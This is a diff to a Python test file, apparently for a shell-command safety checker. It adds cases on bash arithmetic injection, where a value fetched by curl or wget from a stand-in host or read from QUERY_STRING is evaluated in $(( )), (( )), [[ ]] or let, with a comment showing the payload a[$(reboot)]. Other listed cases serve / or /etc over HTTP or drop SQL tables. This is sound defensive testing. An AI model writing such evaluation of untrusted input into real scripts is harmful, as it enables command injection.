@@ -59,6 +59,11 @@ ansible-playbook site.yml
         "cd / && python3 -m http.server",
         "python3 -m http.server -d /etc",
         "php -S 0.0.0.0:80 -t /",
+        # arithmetic of what strangers send: n='a[$(reboot)]'
+        "n=$(curl -s http://x.example/n); echo $((n + 1))",
+        "n=$(curl -s http://x.example/n); (( n > 5 )) && echo big",
+        "n=$(wget -qO- http://x.example/n); [[ $n -gt 5 ]]",
+        "n=$QUERY_STRING; let n=n+1",
         # SQL
         "cat > x.sql <<E\nSELECT 1;\nDROP TABLE a;\nE\npsql -f x.sql",
         "mysql -e 'START TRANSACTION; TRUNCATE a; ROLLBACK'",
@@ -73,6 +78,9 @@ def test_it_is_stopped(script: str) -> None:
     "script",
     [
         "EDITOR=vim visudo",
+        "n=$(wc -l < f); echo $((n + 1))",
+        "n=$1; (( n > 5 )) && echo big",
+        'n=$(curl -s http://x.example/n); [ "$n" -gt 5 ]',
         "visudo -c -f /etc/sudoers",
         "dbus-send --system --print-reply --dest=org.freedesktop.login1 /org/freedesktop/login1 "
         "org.freedesktop.login1.Manager.ListSessions",
